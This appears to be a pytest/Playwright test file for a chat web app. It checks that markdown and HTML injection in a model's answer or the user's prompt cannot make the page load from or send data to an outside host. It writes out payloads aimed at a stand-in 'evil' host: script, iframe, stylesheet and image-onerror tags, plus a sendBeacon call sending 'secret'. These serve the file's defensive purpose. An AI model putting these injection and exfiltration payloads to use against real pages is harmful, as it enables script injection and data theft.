"""What an answer, a document or a title may try that the page shows."""

from __future__ import annotations

from collections.abc import Callable

import pytest
import safehttpx
from playwright.sync_api import BrowserContext, Request, expect

from ..chat import scripted
from ..chat.scripted import ScriptedPipeline
from .conftest import Evil, local_address

HOSTILE = """![x]({evil}/x.png) <img src="{evil}/y.png" onerror="alert(1)">
<iframe src="{evil}/"></iframe> <link rel="stylesheet" href="{evil}/z.css"> <style>@import "{evil}/i.css"</style>
[![x]({evil}/v.png)]({evil}/) <script src="{evil}/s.js"></script>
"""
TRY = """async (evil) => {
  const shown = (address) => new Promise((done) => {
    const image = new Image();
    image.onload = () => done("loaded");
    image.onerror = () => done("blocked");
    image.src = address;
  });
  const fetched = fetch(evil, {mode: "no-cors"}).then(() => "loaded", () => "blocked");
  navigator.sendBeacon(evil, "secret");
  const passed = "/gradio_api/file=" + evil + "/p.png", status = (await fetch(passed)).status;
  return [await shown(evil + "/w.png"), await shown(passed), await fetched, status];
}"""


@pytest.mark.slow
def test_a_hostile_answer_makes_the_page_ask_no_other_host(
    serve: Callable[..., str],
    pipeline: ScriptedPipeline,
    open_context: Callable[..., BrowserContext],
    evil: Evil,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.setattr(safehttpx, "async_validate_url", local_address)
    monkeypatch.setattr(scripted, "BEGINNING", HOSTILE.format(evil=evil.url))
    pipeline.warm.set()
    pipeline.gate.set()
    address = serve(pipeline)
    requests: list[Request] = []
    violations: list[str] = []
    context = open_context()
    context.on("request", lambda request: requests.append(request))
    page = context.new_page()
    page.on("console", lambda message: violations.append(message.text) if "Content Security" in message.text else None)
    page.goto(address)
    expect(page.locator("#status")).to_contain_text("ready", timeout=60_000)
    assert [request.url for request in requests if not _is_ours(request, address)] == []
    assert violations == []  # the page itself needs nothing that the policy forbids
    page.locator("#prompt textarea").fill(HOSTILE.format(evil=evil.url))
    page.locator("#send").click()
    expect(page.locator("#chat .figures")).to_have_count(1, timeout=60_000)
    expect(page.locator("#chat")).to_contain_text(evil.url)
    assert page.evaluate(TRY, evil.url) == ["blocked", "blocked", "blocked", 404]  # whatever else gets into the page
    assert evil.asked == []


def _is_ours(request: Request, address: str) -> bool:
    return request.url.startswith((f"{address}/", "data:", "blob:"))
